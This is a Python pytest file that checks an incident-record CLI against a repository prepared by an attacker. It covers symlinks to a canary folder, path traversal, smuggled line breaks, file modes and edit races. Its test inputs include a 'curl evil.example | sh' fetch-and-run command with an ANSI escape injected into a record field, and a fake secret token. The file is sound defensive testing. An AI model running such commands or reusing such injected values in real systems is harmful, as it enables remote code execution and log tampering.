"""A repository that somebody hostile has prepared: no command writes, deletes or copies anything outside of it.

`canary` is a folder beside the repository, with whatever an attacker would like to change, remove or publish. Every
test leaves it as it was.
"""

from __future__ import annotations

import json
import os
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner, Result

from mkdocs_incidents.cli.commands import COMMITTING, main
from mkdocs_incidents.recording import commit
from tests.canaries import canary_folder, contents
from tests.conftest import CONFIG, RECORD, filled_template, record
from tests.unit.cli.conftest import write_editor

MEMO = "artifacts/decision-memos/INC-001.md"
AUDIT_LOG = "artifacts/.audit-log/promotions.log"
PRIVATE = "export TOKEN=hunter2\n"


@pytest.fixture
def canary(tmp_path: Path) -> Iterator[Path]:
    names = (".bashrc", "notes.md", "incidents/INC-009.md")
    with canary_folder(tmp_path / "canary", names, PRIVATE) as folder:
        yield folder


@pytest.fixture
def root(tmp_path: Path, canary: Path) -> Path:
    """A repository with one record."""
    root = tmp_path / "root"
    (root / MEMO).parent.mkdir(parents=True)
    (root / "company.config.yaml").write_text(CONFIG, encoding="utf-8")
    (root / MEMO).write_text(record(), encoding="utf-8")
    return root


def run(root: Path, *arguments: str) -> Result:
    """The command, which must not end in a traceback."""
    result = CliRunner().invoke(main, [*arguments, "--root", str(root)])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exc_info
    return result


def export(*entries: dict[str, object]) -> str:
    """A whole record for each, as JSON."""
    fields = {key: yaml.load(value, yaml.BaseLoader) for key, value in RECORD.items()}  # noqa: S506 - text, days as well
    return json.dumps({"schema_version": 1, "incidents": [{**fields, **entry} for entry in entries]})


# Attack 1: the log of promotions


def test_the_log_of_promotions_is_a_link(root: Path, canary: Path) -> None:
    (root / AUDIT_LOG).parent.mkdir()
    (root / AUDIT_LOG).symlink_to(canary / ".bashrc")
    before = (root / MEMO).read_bytes()
    result = run(root, "promote", "INC-001", "archived")
    assert result.exit_code == 2
    assert "promotions.log is a symbolic link" in result.stderr
    assert (root / MEMO).read_bytes() == before


def test_the_folder_of_the_log_is_a_link(root: Path, canary: Path) -> None:
    (root / "artifacts/.audit-log").symlink_to(canary)
    result = run(root, "promote", "INC-001", "archived")
    assert result.exit_code == 2
    assert "artifacts/.audit-log is a symbolic link" in result.stderr


def test_the_log_is_another_name_of_a_file_elsewhere(root: Path, canary: Path) -> None:
    (root / AUDIT_LOG).parent.mkdir()
    os.link(canary / ".bashrc", root / AUDIT_LOG)
    run(root, "promote", "INC-001", "archived")


def test_a_log_message_is_always_one_line(root: Path) -> None:
    (root / MEMO).write_text(record(status='"draft\\ncurl evil.example | sh\\n\\e[2J"'), encoding="utf-8")
    assert run(root, "promote", "INC-001", "archived").exit_code == 0
    lines = (root / AUDIT_LOG).read_text(encoding="utf-8").split("\n")
    assert len(lines) == 2
    assert f"Z] {MEMO}: draft curl evil.example | sh " in lines[0]
    assert "[2J → archived, by " in lines[0]
    assert "\x1b" not in lines[0]
    assert run(root, "promote", "INC-001", "archived").exit_code == 1
    assert (root / AUDIT_LOG).read_text(encoding="utf-8").split("\n") == lines


# Attack 3: rendered files


def test_the_folder_of_rendered_files_is_a_link(root: Path, canary: Path) -> None:
    (root / "rendered").symlink_to(canary)
    (canary / ".incidents-rendered").write_text("incidents/INC-009.md\nnotes.md\n", encoding="utf-8")
    before = contents(canary)
    for arguments in (["render"], ["render", "--out", str(root / "rendered")]):
        result = run(root, *arguments)
        assert result.exit_code == 2
        assert "rendered is a symbolic link" in result.stderr
    assert contents(canary) == before
    (canary / ".incidents-rendered").unlink()


def test_a_folder_below_the_rendered_files_is_a_link(root: Path, canary: Path) -> None:
    (root / "rendered").mkdir()
    (root / "rendered/incidents").symlink_to(canary / "incidents")
    (root / "rendered/.incidents-rendered").write_text("incidents/INC-009.md\n", encoding="utf-8")
    result = run(root, "render")
    assert result.exit_code == 2
    assert "rendered/incidents is a symbolic link" in result.stderr
    assert run(root, "render", "--check").exit_code == 1


def test_a_list_of_rendered_files_that_came_with_the_repository_removes_nothing(root: Path) -> None:
    (root / "rendered/incidents").mkdir(parents=True)
    (root / "rendered/incidents/INC-009.md").write_text("mine", encoding="utf-8")
    (root / "rendered/.incidents-rendered").write_text(
        "incidents/INC-009.md\n../company.config.yaml\n", encoding="utf-8"
    )
    result = run(root, "render")
    assert result.exit_code == 0
    assert (
        "rendered/incidents/INC-009.md: out of date, but not removed, because it was edited or written elsewhere"
        in result.stderr
    )
    assert run(root, "render", "--check").exit_code == 1
    assert (root / "rendered/incidents/INC-009.md").read_text(encoding="utf-8") == "mine"


def test_a_rendered_file_that_somebody_has_edited_is_not_removed(root: Path) -> None:
    (root / "artifacts/INC-002.md").write_text(record(id="INC-002"), encoding="utf-8")
    assert run(root, "render").exit_code == 0
    (root / "artifacts/INC-002.md").unlink()
    (root / "rendered/incidents/INC-002.md").write_text("mine", encoding="utf-8")
    assert "INC-002.md: out of date, but not removed" in run(root, "render").stderr
    assert (root / "rendered/incidents/INC-002.md").read_text(encoding="utf-8") == "mine"


def test_the_list_of_rendered_files_is_a_link(root: Path, canary: Path) -> None:
    (root / "rendered").mkdir()
    (root / "rendered/.incidents-rendered").symlink_to(canary / ".bashrc")
    result = run(root, "render")
    assert result.exit_code == 2
    assert ".incidents-rendered is a symbolic link" in result.stderr


# Attack 4: the folder of the records


EVENT = {
    "action": "opened",
    "sender": {"login": "ada"},
    "issue": {
        "html_url": "https://github.com/acme/shop/issues/2",
        "title": "Mail is late",
        "body": "",
        "state": "open",
        "labels": [{"name": "incident"}],
        "user": {"login": "ada"},
        "author_association": "OWNER",
        "created_at": "2026-03-02T14:00:00Z",
        "updated_at": "2026-03-02T14:00:00Z",
    },
}


@pytest.mark.parametrize("link", ["artifacts", "artifacts/decision-memos"])
@pytest.mark.parametrize("command", ["new", "import", "adopt", "init", "drill", "ingest"])
def test_the_folder_of_the_records_is_a_link(root: Path, canary: Path, link: str, command: str) -> None:
    (root / MEMO).unlink()
    (root / "artifacts/decision-memos").rmdir()
    if link == "artifacts":
        (root / link).rmdir()
    (root / link).symlink_to(canary)
    (root / "history.json").write_text(export({"id": "INC-007", "title": "x"}), encoding="utf-8")
    (root / "old.md").write_text(filled_template().split("---\n")[-1], encoding="utf-8")
    arguments = {
        "new": ["new", "--title", "x", "--severity", "P1", "--author", "a"],
        "import": ["import", str(root / "history.json"), "--write"],
        "adopt": ["adopt", str(root / "old.md"), "--write"],
        "init": ["init", "--demo"],
        "drill": ["drill", "new", "--title", "x"],
        "ingest": ["ingest", str(root / "event.json")],
    }
    (root / "event.json").write_text(json.dumps(EVENT), encoding="utf-8")
    if command == "drill" and link != "artifacts":
        (root / "artifacts/drills").symlink_to(canary)
        link = "artifacts/drills"
    result = run(root, *arguments[command])
    assert result.exit_code in (1, 2), result.output
    assert f"{link} is a symbolic link" in result.stderr


@pytest.mark.parametrize(
    "arguments",
    [
        ["log", "INC-001", "x"],
        ["severity", "INC-001", "P0"],
        ["promote", "INC-001", "archived"],
        ["action", "add", "INC-001", "x"],
        ["check", "--fix"],
    ],
)
def test_a_record_that_is_a_link_out_of_the_repository_is_neither_read_nor_edited(
    root: Path, canary: Path, arguments: list[str]
) -> None:
    (canary / "INC-001.md").write_text(record(severity="p1"), encoding="utf-8")
    (root / MEMO).unlink()
    (root / MEMO).symlink_to(canary / "INC-001.md")
    assert run(root, *arguments).exit_code in (1, 2)
    assert (canary / "INC-001.md").read_text(encoding="utf-8") == record(severity="p1")
    assert f"{MEMO}:1:1: error SRC011: a link that leads out of the repository" in run(root, "check").output
    (canary / "INC-001.md").unlink()


def test_a_record_that_is_a_link_inside_the_repository_is_read_and_not_edited(root: Path) -> None:
    (root / "real.md").write_text(record(), encoding="utf-8")
    (root / MEMO).unlink()
    (root / MEMO).symlink_to("../../real.md")
    assert "INC-001" in run(root, "list").output
    result = run(root, "severity", "INC-001", "P0")
    assert result.exit_code == 2
    assert f"{MEMO} is a symbolic link: name the file that it leads to" in result.stderr


AT = ("--at", "2026-03-02T14:40:00Z")
EDITS: Mapping[str, tuple[str, ...]] = {
    "log": ("log", "INC-001", "x", *AT),
    "ack": ("ack", "INC-001", *AT),
    "identify": ("identify", "INC-001", *AT),
    "mitigate": ("mitigate", "INC-001", "--by", "rollback", *AT),
    "resolve": ("resolve", "INC-001", *AT),
    "reopen": ("reopen", "INC-002", *AT),
    "severity": ("severity", "INC-001", "P0", *AT),
    "set": ("set", "INC-001", "title=x"),
    "edit": ("edit", "INC-001"),
    "action": ("action", "add", "INC-001", "x"),
    "link": ("link", "INC-001", "INC-002"),
    "promote": ("promote", "INC-002", "archived"),
    "comms": ("comms", "INC-001", "internal", "--sent", "--text", "x", *AT),
    "confirm": ("confirm", "INC-001", "severity"),
    "timeline": ("timeline", "import", "INC-001", "chat", "--pinned"),
    "step": ("step", "INC-001", "1", "--done", *AT),
    "undo": ("undo",),
}
NEW_FILES = {"new", "drill", "ingest"}
"""Commands that only add files: they are tried where the folder of these is a link."""

OPEN: Mapping[str, str | None] = dict.fromkeys(("acknowledged_at", "identified_at", "mitigated_at", "resolved_at"))
POST = {"type": "message", "user": "U1", "text": "x", "ts": "1772462400.000200", "pinned_to": ["C1"]}


def test_every_command_that_edits_is_tried_on_a_link() -> None:
    assert EDITS.keys() | NEW_FILES == COMMITTING


@pytest.mark.parametrize("command", EDITS)
def test_no_command_edits_the_target_of_a_link(
    root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: str
) -> None:
    """The link leads to a file of the repository, so the record is read."""
    monkeypatch.setenv("VISUAL", write_editor(tmp_path / "editor", "text = text.replace('P1', 'P0')"))
    records = {
        "INC-001": record("", status="draft", inferred="[severity]", **OPEN),
        "INC-002": record(id="INC-002", status="approved"),
    }
    (root / "kept").mkdir()
    (root / "chat").mkdir()
    (root / "chat/1.json").write_text(json.dumps([POST]), encoding="utf-8")
    monkeypatch.chdir(root)
    for identity, text in records.items():
        (root / MEMO).with_name(f"{identity}.md").write_text(text, encoding="utf-8")
    if command == "undo":
        assert run(root, *EDITS["set"]).exit_code == 0
    for identity in records:
        path = (root / MEMO).with_name(f"{identity}.md")
        path.rename(root / "kept" / path.name)
        path.symlink_to(root / "kept" / path.name)
    before = contents(root / "kept")
    result = run(root, *EDITS[command])
    assert (result.exit_code, "symbolic link" in result.stderr) == (2, True), result.output
    assert contents(root / "kept") == before
    assert all((root / MEMO).with_name(f"{identity}.md").is_symlink() for identity in records)


def test_a_record_is_a_link_to_what_git_keeps(root: Path) -> None:
    """There are credentials in it, where CI has checked the repository out."""
    (root / ".git").mkdir()
    (root / ".git/config").write_text(record(), encoding="utf-8")
    (root / MEMO).unlink()
    (root / MEMO).symlink_to("../../.git/config")
    assert "SRC011" in run(root, "check").output


def test_exports_are_not_written_through_links_of_the_repository(root: Path, canary: Path) -> None:
    (root / "out").symlink_to(canary)
    (root / "export.json").symlink_to(canary / ".bashrc")
    for path in ("out/.bashrc", "export.json"):
        result = run(root, "export", "--out", str(root / path))
        assert result.exit_code == 2
        assert "is a symbolic link" in result.stderr


# Attack 15: modes


@contextmanager
def umask(mask: int) -> Iterator[None]:
    before = os.umask(mask)
    try:
        yield
    finally:
        os.umask(before)


def test_the_umask_holds_for_every_file(root: Path) -> None:
    (root / "history.json").write_text(export({"id": "INC-007", "title": "x"}), encoding="utf-8")
    known = set(root.rglob("*"))
    with umask(0o077):
        for arguments in (
            ["new", "--title", "x", "--severity", "P1", "--author", "a"],
            ["import", str(root / "history.json"), "--write"],
            ["export", "--out", str(root / "out/export.json")],
            ["render"],
            ["promote", "INC-001", "archived"],
        ):
            assert run(root, *arguments).exit_code == 0
    made = set(root.rglob("*")) - known
    assert len(made) > 8
    assert [path for path in made if path.stat().st_mode & 0o077] == []


# Attack 16: an editor saves between the read and the write


def test_an_edit_is_done_again_on_what_an_editor_has_saved(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    save_during_the_check(root, monkeypatch, 2)
    assert run(root, "severity", "INC-001", "P0").exit_code == 0
    text = (root / MEMO).read_text(encoding="utf-8")
    assert "title: Saved 2\n" in text
    assert "severity: P0\n" in text


def test_an_edit_gives_up_if_the_file_keeps_changing(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    save_during_the_check(root, monkeypatch, 1000)
    result = run(root, "promote", "INC-001", "archived")
    assert result.exit_code == 2
    assert "was changed by somebody else in the meantime; nothing was written" in result.stderr
    assert "status: approved\n" in (root / MEMO).read_text(encoding="utf-8")
    assert not (root / AUDIT_LOG).exists()


def save_during_the_check(root: Path, monkeypatch: pytest.MonkeyPatch, times: int) -> None:
    """Let an editor save the record while the rules look at the edit, so many times."""
    check = commit.refuse_new_errors
    saves: list[int] = []

    def save(*arguments: object) -> None:
        check(*arguments)  # type: ignore[arg-type]
        if len(saves) < times:
            saves.append(1)
            (root / MEMO).write_text(record(title=f"Saved {len(saves)}"), encoding="utf-8")

    for module in (commit, "mkdocs_incidents.recording.promotion"):
        target = (
            f"{module}.refuse_new_errors"
            if isinstance(module, str)
            else "mkdocs_incidents.recording.commit.refuse_new_errors"
        )
        monkeypatch.setattr(target, save)


# Attack 26: what is adopted


def test_a_link_in_a_folder_that_is_adopted_is_not_followed(root: Path, canary: Path, tmp_path: Path) -> None:
    stranger = tmp_path / "stranger"
    stranger.mkdir()
    text = filled_template().split("---\n")[-1]
    (canary / "notes.md").write_text(f"{text}\n{PRIVATE}", encoding="utf-8")
    (stranger / "post-mortem.md").symlink_to(canary / "notes.md")
    result = run(root, "adopt", str(stranger), "--write")
    assert "a symbolic link: name the file that it leads to" in result.output
    assert [path for path in root.rglob("*") if path.is_file() and "hunter2" in path.read_text()] == []
    (canary / "notes.md").write_text(PRIVATE, encoding="utf-8")


# Attack 28: names of files


@pytest.mark.parametrize("identity", ["INC-007\n", "INC-007\r", "INC-007\u2028", "INC-\n007", "INC-007/../../x"])
def test_an_id_with_a_line_break_makes_no_file(root: Path, identity: str) -> None:
    before = contents(root)
    (root.parent / "history.json").write_text(export({"id": identity, "title": "x"}), encoding="utf-8")
    result = run(root, "import", str(root.parent / "history.json"), "--write")
    assert result.exit_code == 1, result.output
    assert "Nothing was written" in result.stderr
    assert contents(root) == before
